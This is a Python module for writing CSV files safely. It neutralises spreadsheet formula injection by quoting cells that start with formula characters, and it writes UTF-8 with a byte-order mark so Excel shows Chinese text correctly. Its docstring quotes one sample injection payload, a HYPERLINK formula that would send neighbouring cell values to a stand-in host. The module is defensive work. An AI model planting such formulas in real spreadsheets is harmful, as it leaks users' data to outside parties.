"""Write stage helper: the one way the tool writes CSV (``compare/<year>.csv``, ``stats --format csv``).

Spreadsheet programs run a cell that starts with ``=``, ``+``, ``-`` or ``@``
(and, in some, tab or carriage return) as a formula: a unit named
``=HYPERLINK("http://x.example/?leak="&A2,"点击")`` would become a live link
that sends the neighbouring cells away. Following OWASP's "CSV Injection"
advice, every text cell that begins with one of those characters gets a single
quote ``'`` in front, which Excel and LibreOffice show as text; fields are quoted
by the csv module wherever a comma, quote or line break needs it.

Numbers are left alone: the tool writes plain decimal numbers (``12``,
``-3``, ``87.5``), and a negative number prefixed with ``'`` would stop being
a number in the spreadsheet. Only a cell that is entirely such a number is
exempt; ``-1+2`` or ``-A1`` is text and neutralised.

Every CSV file the tool writes is UTF-8 with a byte-order mark (`csv_bytes`):
Excel on a Chinese Windows PC reads a BOM-less file as GBK and shows the
Chinese unit names as mojibake.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence

# What a spreadsheet may take as the start of a formula (OWASP: = + - @ tab CR).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"-?[0-9]+(?:\.[0-9]+)?")


def safe_cell(value: str) -> str:
    """``value`` as a spreadsheet will show it, never run it (see the module docstring)."""
    if value.startswith(FORMULA_START) and _NUMBER.fullmatch(value) is None:
        return "'" + value
    return value


def csv_text(rows: Iterable[Sequence[str]]) -> str:
    """RFC 4180 CSV (CRLF line ends, minimal quoting) with every cell passed through `safe_cell`."""
    buf = io.StringIO()
    writer = csv.writer(buf, lineterminator="\r\n")
    writer.writerows([safe_cell(c) for c in row] for row in rows)
    return buf.getvalue()


BOM = b"\xef\xbb\xbf"


def csv_bytes(rows: Iterable[Sequence[str]]) -> bytes:
    """`csv_text` as the bytes of a file: UTF-8 with a BOM (see the module docstring)."""
    return BOM + csv_text(rows).encode("utf-8")


__all__ = ["BOM", "FORMULA_START", "csv_bytes", "csv_text", "safe_cell"]
